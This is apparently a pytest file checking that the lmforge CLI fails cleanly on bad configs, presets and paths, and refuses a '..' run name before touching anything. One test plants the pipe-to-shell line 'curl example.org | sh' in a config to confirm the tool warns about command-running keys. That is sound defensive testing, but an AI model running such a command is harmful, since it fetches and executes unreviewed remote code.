"""Bad input ends with one clear message and a non-zero exit, never a traceback."""

import os
import subprocess
import sys
from pathlib import Path


def lmforge(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "lmforge", *args], check=False, capture_output=True, text=True,
                          timeout=300, env={**os.environ, "COLUMNS": "200", **(env or {})})


def assert_clean_failure(proc: subprocess.CompletedProcess, needle: str) -> None:
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0
    assert "Traceback" not in out
    assert needle in out, out


def test_missing_config(tmp_path: Path):
    assert_clean_failure(lmforge("run", str(tmp_path / "nope.yaml"), "-o", str(tmp_path / "r")),
                         "config file not found")


def test_malformed_config(tmp_path: Path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("train: [1, 2\n")
    assert_clean_failure(lmforge("run", str(bad), "-o", str(tmp_path / "r")), "malformed YAML")


def test_unknown_key_in_config(tmp_path: Path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("train:\n  stpes: 3\n")
    assert_clean_failure(lmforge("run", str(bad), "-o", str(tmp_path / "r")), "did you mean 'train.steps'")


def test_unknown_preset(tmp_path: Path):
    assert_clean_failure(lmforge("run", "--preset", "nope", "-o", str(tmp_path / "r")), "unknown preset 'nope'")


def test_unwritable_run_dir(tmp_path: Path):
    blocker = tmp_path / "file"
    blocker.write_text("")
    assert_clean_failure(lmforge("run", "--preset", "smoke", "-o", str(blocker / "run")),
                         "cannot write the run directory")


def test_unreachable_corpus(tmp_path: Path):
    env = {"LMFORGE_CACHE": str(tmp_path / "cache"), "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INDEX": "1",
           "PIP_FIND_LINKS": ""}
    proc = lmforge("data", str(tmp_path / "r"), "--preset", "smoke", env=env)
    assert_clean_failure(proc, "could not fetch the built-in corpus")
    assert "hint" in proc.stderr


def test_help_on_every_command():
    for cmd in ["run", "data", "tokenize", "train", "eval", "generate", "report"]:
        proc = lmforge(cmd, "--help")
        assert proc.returncode == 0 and "Usage" in proc.stdout


def test_error_messages_are_printed_verbatim():
    """A glob with [..] and YAML that reads `:zero:` are quoted back as typed, not eaten as rich
    markup or turned into an emoji."""
    proc = lmforge("model", "info", 'model.init_overrides={"blocks.[01].nope": zero}')
    assert_clean_failure(proc, "['blocks.[01].nope']")
    assert_clean_failure(lmforge("model", "info", "model.init_overrides={nomatch*:zero}"), "nomatch*:zero:")


def test_run_takes_the_config_file_as_c_like_the_stage_commands(tmp_path: Path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("train: [1, 2\n")
    assert_clean_failure(lmforge("run", "-c", str(bad), "-o", str(tmp_path / "r")), "malformed YAML")
    assert_clean_failure(lmforge("run", "-c", str(bad), str(bad), "-o", str(tmp_path / "r")), "two config files")


def test_a_run_named_dot_dot_is_refused_before_anything_is_touched(tmp_path: Path):
    """A config file called `...yaml` has the stem `..`: runs/.. is the working directory, whose
    checkpoints a fresh run would clear."""
    cfg = tmp_path / "...yaml"
    cfg.write_text("train:\n  steps: 1\n")
    keep = tmp_path / "checkpoints" / "step-5"
    keep.mkdir(parents=True)
    proc = subprocess.run([sys.executable, "-m", "lmforge", "run", str(cfg)], cwd=tmp_path, check=False,
                          capture_output=True, text=True, timeout=300)
    assert_clean_failure(proc, "not a folder of its own")
    assert keep.is_dir() and sorted(p.name for p in tmp_path.iterdir()) == ["...yaml", "checkpoints"]


def test_run_names_the_keys_that_would_run_commands_before_it_starts(tmp_path: Path):
    """A config from someone else that runs a shell line on the cluster says so before any stage
    starts (here the data stage then stops: this machine has no sbatch)."""
    cfg = tmp_path / "other.yaml"
    cfg.write_text("data:\n  executor: slurm\n  slurm:\n    partition: p\n    env_command: curl example.org | sh\n")
    out = lmforge("run", str(cfg), "-o", str(tmp_path / "r"))
    text = out.stdout + out.stderr
    assert "data.slurm.env_command='curl example.org | sh'" in text, text
    assert text.index("env_command") < text.index("data: running"), text
